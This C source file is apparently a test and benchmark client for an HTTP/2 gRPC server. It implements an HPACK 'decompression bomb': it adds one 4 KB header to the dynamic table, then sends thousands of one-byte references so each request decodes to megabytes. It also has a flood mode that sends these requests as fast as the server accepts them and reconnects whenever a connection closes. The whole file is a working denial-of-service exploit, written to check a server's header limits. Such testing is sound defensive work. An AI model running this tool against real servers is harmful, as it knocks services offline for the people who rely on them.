/* hpack_bomb.c -- a hostile HTTP/2 client for tests/integration/test_grpc.sh and
 * bench/: header blocks that stay small on the wire and decode to megabytes (one
 * 4 KB literal added to the HPACK dynamic table, then thousands of one-byte
 * references to it). Standard C and POSIX only; loopback use, every wait bounded.
 *
 *   hpack_bomb ADDR once [REFS]
 *       one connection, up to three such requests, one after the other; prints what the
 *       server answers each with ("rst stream=1 code=11", "goaway code=11 debug=...",
 *       "response stream=1") and "closed" when it closes the connection.
 *   hpack_bomb ADDR flood SECONDS [REFS]
 *       for SECONDS, sends such requests as fast as the server takes them, opening a
 *       new connection whenever one is closed; prints "connections=N blocks=M goaways=K".
 *   hpack_bomb ADDR small SECONDS
 *       as flood, but every block stays under 64 KiB decoded (15 references), so only
 *       the server's per-turn cap on header work stands in the way.
 * REFS (12000 unless given) is the number of references per block: about 4 KB each. */
#include <errno.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#include <arpa/inet.h>

#define BIG_VALUE 4000     /* the dynamic-table entry's value: 6 + 4000 + 32 bytes */
#define MAX_FRAME 16384    /* SETTINGS_MAX_FRAME_SIZE's default */

typedef struct out {
    uint8_t *p;
    size_t len, cap;
} out;

static void put(out *o, const void *p, size_t n)
{
    if (o->len + n > o->cap) {
        o->cap = (o->len + n) * 2;
        o->p = realloc(o->p, o->cap);
        if (!o->p) {
            perror("hpack_bomb: realloc");
            exit(2);
        }
    }
    memcpy(o->p + o->len, p, n);
    o->len += n;
}

static void put1(out *o, uint8_t b) { put(o, &b, 1); }

/* HPACK's integer with an n-bit prefix, the prefix's other bits set from flags. */
static void put_int(out *o, uint8_t flags, int bits, size_t v)
{
    size_t max = ((size_t)1 << bits) - 1;
    if (v < max) {
        put1(o, (uint8_t)(flags | v));
        return;
    }
    put1(o, (uint8_t)(flags | max));
    for (v -= max; v >= 128; v >>= 7)
        put1(o, (uint8_t)(v % 128 + 128));
    put1(o, (uint8_t)v);
}

static void put_str(out *o, const char *s, size_t n)
{
    put_int(o, 0, 7, n); /* not Huffman-coded */
    put(o, s, n);
}

/* A request header block: POST /helloworld.Greeter/SayHello, application/grpc, then
 * (first) the 4 KB x-bomb literal added to the dynamic table and refs references to it. */
static void header_block(out *o, int first, size_t refs)
{
    static const char path[] = "/helloworld.Greeter/SayHello", ct[] = "application/grpc";
    put1(o, 0x83);              /* :method POST (static 3) */
    put1(o, 0x86);              /* :scheme http (static 6) */
    put_int(o, 0x00, 4, 1);     /* :authority (static name 1), literal, not indexed */
    put_str(o, "127.0.0.1", 9);
    put_int(o, 0x00, 4, 4);     /* :path (static name 4) */
    put_str(o, path, sizeof path - 1);
    put_int(o, 0x00, 4, 31);    /* content-type (static name 31) */
    put_str(o, ct, sizeof ct - 1);
    if (first) {
        static char v[BIG_VALUE];
        memset(v, 'b', sizeof v);
        put1(o, 0x40);          /* literal with incremental indexing, new name */
        put_str(o, "x-bomb", 6);
        put_str(o, v, sizeof v);
    }
    for (size_t i = 0; i < refs; i++)
        put_int(o, 0x80, 7, 62); /* indexed: the newest dynamic entry */
}

static void frame_head(out *o, size_t len, uint8_t type, uint8_t flags, uint32_t id)
{
    uint8_t h[9] = {(uint8_t)(len >> 16), (uint8_t)(len >> 8), (uint8_t)len, type, flags,
                    (uint8_t)(id >> 24 & 0x7f), (uint8_t)(id >> 16), (uint8_t)(id >> 8), (uint8_t)id};
    put(o, h, 9);
}

/* The block as HEADERS (END_STREAM) and CONTINUATION frames on stream id. */
static void request(out *o, uint32_t id, int first, size_t refs)
{
    out b = {0};
    header_block(&b, first, refs);
    for (size_t off = 0; off < b.len || off == 0;) {
        size_t n = b.len - off < MAX_FRAME ? b.len - off : MAX_FRAME;
        uint8_t flags = off + n == b.len ? 0x4 : 0;
        if (off == 0)
            frame_head(o, n, 0x1, (uint8_t)(flags | 0x1), id);
        else
            frame_head(o, n, 0x9, flags, id);
        put(o, b.p + off, n);
        off += n;
    }
    free(b.p);
}

static int dial(const char *addr)
{
    char host[64];
    const char *colon = strrchr(addr, ':');
    if (!colon || (size_t)(colon - addr) >= sizeof host)
        return -1;
    memcpy(host, addr, (size_t)(colon - addr));
    host[colon - addr] = '\0';
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(colon + 1))};
    if (inet_pton(AF_INET, host, &sa.sin_addr) != 1)
        return -1;
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0)
        return -1;
    struct timeval tv = {.tv_sec = 3};
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv);
    if (connect(fd, (struct sockaddr *)&sa, sizeof sa) < 0) {
        close(fd);
        return -1;
    }
    static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    out o = {0};
    put(&o, preface, sizeof preface - 1);
    frame_head(&o, 0, 0x4, 0, 0); /* our SETTINGS: none */
    ssize_t w = send(fd, o.p, o.len, MSG_NOSIGNAL);
    free(o.p);
    if (w != (ssize_t)o.len) {
        close(fd);
        return -1;
    }
    return fd;
}

static int send_all(int fd, const out *o)
{
    for (size_t off = 0; off < o->len;) {
        ssize_t w = send(fd, o->p + off, o->len - off, MSG_NOSIGNAL);
        if (w <= 0)
            return -1;
        off += (size_t)w;
    }
    return 0;
}

static int read_full(int fd, uint8_t *p, size_t n)
{
    for (size_t got = 0; got < n;) {
        ssize_t r = recv(fd, p + got, n - got, 0);
        if (r <= 0)
            return -1;
        got += (size_t)r;
    }
    return 0;
}

/* Reads frames until one says what became of stream id (or of the connection).
 * Returns 1 for an answer on the stream, 0 for GOAWAY or a closed connection, -1 when
 * nothing came within the socket's timeout. */
static int await(int fd, uint32_t id)
{
    static uint8_t payload[1 << 24];
    for (;;) {
        uint8_t h[9];
        if (read_full(fd, h, 9) < 0) {
            if (errno == EAGAIN || errno == EWOULDBLOCK) {
                printf("no answer within 3 s\n");
                return -1;
            }
            printf("closed\n");
            return 0;
        }
        size_t len = (size_t)h[0] << 16 | (size_t)h[1] << 8 | h[2];
        uint32_t sid = ((uint32_t)h[5] << 24 | (uint32_t)h[6] << 16 | (uint32_t)h[7] << 8 | h[8]) & 0x7fffffff;
        if (read_full(fd, payload, len) < 0) {
            printf("closed\n");
            return 0;
        }
        uint32_t code = len >= 4 ? (uint32_t)payload[0] << 24 | (uint32_t)payload[1] << 16 |
                                       (uint32_t)payload[2] << 8 | payload[3] : 0;
        if (h[3] == 0x4 && !(h[4] & 1)) {
            for (size_t i = 0; i + 6 <= len; i += 6)
                if (payload[i] == 0 && payload[i + 1] == 6)
                    printf("settings max_header_list_size=%u\n", (unsigned)(payload[i + 2] << 24 |
                           payload[i + 3] << 16 | payload[i + 4] << 8 | payload[i + 5]));
        } else if (h[3] == 0x3 && sid == id) {
            printf("rst stream=%u code=%u\n", (unsigned)sid, (unsigned)code);
            return 1;
        } else if (h[3] == 0x1 && sid == id) {
            printf("response stream=%u\n", (unsigned)sid);
            return 1;
        } else if (h[3] == 0x7 && len >= 8) {
            uint32_t ecode = (uint32_t)payload[4] << 24 | (uint32_t)payload[5] << 16 |
                             (uint32_t)payload[6] << 8 | payload[7];
            printf("goaway code=%u debug=%.*s\n", (unsigned)ecode, (int)(len - 8), (const char *)payload + 8);
            return 0;
        }
    }
}

static int once(const char *addr, size_t refs)
{
    int fd = dial(addr);
    if (fd < 0) {
        perror("hpack_bomb: connect");
        return 2;
    }
    for (uint32_t i = 0; i < 3; i++) {
        out o = {0};
        request(&o, 2 * i + 1, i == 0, refs);
        int sent = send_all(fd, &o);
        free(o.p);
        if (sent < 0) {
            printf("closed\n");
            break;
        }
        if (await(fd, 2 * i + 1) <= 0) {
            if (i == 0 || errno == EAGAIN)
                break;
            /* after a GOAWAY the server closes: say so */
            uint8_t b[4096];
            while (recv(fd, b, sizeof b, 0) > 0)
                ;
            printf("closed\n");
            break;
        }
    }
    close(fd);
    return 0;
}

static double now_s(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* Counts the GOAWAY frames in what the server sent (what is at hand, without waiting). */
static unsigned drain(int fd, uint8_t *carry, size_t *ncarry)
{
    unsigned goaways = 0;
    for (;;) {
        ssize_t r = recv(fd, carry + *ncarry, 65536, MSG_DONTWAIT);
        if (r <= 0)
            break;
        *ncarry += (size_t)r;
        size_t off = 0;
        while (*ncarry - off >= 9) {
            size_t len = (size_t)carry[off] << 16 | (size_t)carry[off + 1] << 8 | carry[off + 2];
            if (*ncarry - off < 9 + len)
                break;
            goaways += carry[off + 3] == 0x7;
            off += 9 + len;
        }
        memmove(carry, carry + off, *ncarry - off);
        *ncarry -= off;
        if (*ncarry > (1u << 24) - 65536)
            *ncarry = 0; /* a frame larger than we keep: give up counting it */
    }
    return goaways;
}

static int flood(const char *addr, double seconds, size_t refs, int small)
{
    static uint8_t carry[1 << 24];
    unsigned long conns = 0, blocks = 0, goaways = 0;
    double end = now_s() + seconds;
    while (now_s() < end) {
        int fd = dial(addr);
        if (fd < 0) {
            struct timespec ts = {0, 10000000};
            nanosleep(&ts, NULL);
            continue;
        }
        conns++;
        size_t ncarry = 0;
        for (uint32_t id = 1; now_s() < end && id < 0x7fffffff; id += 2) {
            out o = {0};
            request(&o, id, id == 1, small ? 15 : refs);
            int sent = send_all(fd, &o);
            free(o.p);
            goaways += drain(fd, carry, &ncarry);
            if (sent < 0)
                break;
            blocks++;
        }
        close(fd);
    }
    printf("connections=%lu blocks=%lu goaways=%lu\n", conns, blocks, goaways);
    return 0;
}

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc >= 3 && strcmp(argv[2], "once") == 0)
        return once(argv[1], argc > 3 ? (size_t)atol(argv[3]) : 12000);
    if (argc >= 4 && strcmp(argv[2], "flood") == 0)
        return flood(argv[1], atof(argv[3]), argc > 4 ? (size_t)atol(argv[4]) : 12000, 0);
    if (argc >= 4 && strcmp(argv[2], "small") == 0)
        return flood(argv[1], atof(argv[3]), 15, 1);
    fprintf(stderr, "usage: hpack_bomb ADDR once [REFS] | flood SECONDS [REFS] | small SECONDS\n");
    return 2;
}
